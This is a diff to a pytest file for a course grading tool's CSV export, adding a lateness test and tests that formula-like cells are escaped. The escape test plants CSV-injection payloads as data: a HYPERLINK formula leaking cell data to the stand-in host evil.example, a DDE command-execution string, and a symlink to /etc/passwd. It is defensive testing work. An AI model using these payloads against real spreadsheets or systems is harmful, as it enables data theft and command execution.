@@ -1,6 +1,7 @@
 """The grades CSV: rows, values, nbgrader compatibility, the wide variant and bad input."""
 
 import csv
+import json
 
 import pytest
 from nbgrader.api import Gradebook
@@ -14,9 +15,16 @@ from outputs_course import (
     assert_no_secrets,
     expected_raw_score,
     points,
+    results_payload,
 )
 
-from convcourse.instructor.export import EXTRA_COLUMNS, NBGRADER_COLUMNS, export_grades
+from convcourse.instructor.autograde import read_submission
+from convcourse.instructor.export import (
+    EXTRA_COLUMNS,
+    NBGRADER_COLUMNS,
+    export_grades,
+    spreadsheet_safe,
+)
 
 pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
 
@@ -147,3 +155,89 @@ def test_bad_input(course, tmp_path):
     with pytest.raises(ValueError, match="not an nbgrader gradebook"):
         export_grades(tmp_path, tmp_path / "g.csv")
     assert not (tmp_path / "g.csv").exists()
+
+
+def _set_results(course, sid, **fields):
+    path = course.path / ".grading" / "results" / ASSIGNMENT / f"{sid}.json"
+    data = json.loads(path.read_text(encoding="utf-8")) if path.exists() else {}
+    data.update(fields)
+    path.write_text(json.dumps(data), encoding="utf-8")
+
+
+def test_lateness_is_what_is_known_never_a_made_up_zero(course):
+    gb = Gradebook(course.db_url, course_id="convcourse")
+    try:
+        gb.update_or_create_student("zed", first_name="Zed")
+        gb.add_submission(ASSIGNMENT, "zed")  # handed in, but no time is known
+    finally:
+        gb.close()
+        gb.engine.dispose()
+    _set_results(course, "alice", late=True, timestamp_source="lms")
+    _set_results(course, "zed", **results_payload("zed", STUDENTS["bob"]), late=True)
+    rows = {r["student_id"]: r for r in read_csv(export_grades(course.path, course.path / "g.csv"))}
+    # nbgrader's seconds_late where due date and time are known; the LMS's flag when it has one
+    assert (rows["carol"]["seconds_late"], rows["carol"]["late"]) == ("7200.0", "yes")
+    assert (rows["bob"]["seconds_late"], rows["bob"]["late"]) == ("0.0", "no")
+    assert (rows["alice"]["seconds_late"], rows["alice"]["late"]) == ("0.0", "yes")
+    assert rows["alice"]["timestamp_source"] == "lms" and rows["bob"]["timestamp_source"] == ""
+    # Only the flag is known: it is shown, and seconds_late stays empty rather than 0.
+    assert (rows["zed"]["timestamp"], rows["zed"]["seconds_late"], rows["zed"]["late"]) == (
+        "",
+        "",
+        "yes",
+    )
+    assert (rows["dave"]["seconds_late"], rows["dave"]["late"]) == ("", "")  # nothing handed in
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised(course, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
+    # The audit's case: a file of that name in a submission folder, noted by the grader.
+    folder = tmp_path / "submitted" / "mallory" / ASSIGNMENT
+    folder.mkdir(parents=True)
+    (folder / formula.replace("/", "_")).symlink_to("/etc/passwd")
+    notes = read_submission(folder)[2]
+    assert notes[0].startswith("=HYPERLINK(")
+    gb = Gradebook(course.db_url, course_id="convcourse")
+    try:
+        gb.update_or_create_student(
+            "mallory", first_name="+cmd|' /C calc'!A0", last_name="-2+3", email="@SUM(A1:A9)"
+        )
+    finally:
+        gb.close()
+        gb.engine.dispose()
+    _set_results(course, "mallory", **results_payload("mallory", STUDENTS["bob"]))
+    _set_results(course, "mallory", status_detail="; ".join(notes))
+    _set_results(course, "eve", status_detail="\tx", status="\r=1+1")
+    out = export_grades(course.path, course.path / "g.csv", wide=True)
+    rows = {r["student_id"]: r for r in read_csv(out)}
+    row = rows["mallory"]
+    assert row["first_name"] == "'+cmd|' /C calc'!A0"
+    assert row["last_name"] == "'-2+3" and row["email"] == "'@SUM(A1:A9)"
+    assert row["status_detail"] == "'" + notes[0]
+    assert (rows["eve"]["status_detail"], rows["eve"]["status"]) == ("'\tx", "'\r=1+1")
+    # Numbers, ids, times and nbgrader's columns read as before.
+    assert float(row["raw_score"]) == float(rows["bob"]["raw_score"])
+    assert rows["carol"]["timestamp"] == "2026-11-20T14:00:00+00:00"
+    every_cell = [v for r in rows.values() for v in r.values()]
+    assert not [v for v in every_cell if v and v[0] in "=+-@\t\r" and not _is_number(v)]
+
+
+def test_spreadsheet_safe_keeps_numbers():
+    assert [spreadsheet_safe(v) for v in ("-0.5", "+3", "1e-3", "-", "- 1", " =1", "", None)] == [
+        "-0.5",
+        "+3",
+        "1e-3",
+        "'-",
+        "'- 1",
+        "' =1",
+        "",
+        "",
+    ]
+
+
+def _is_number(text):
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
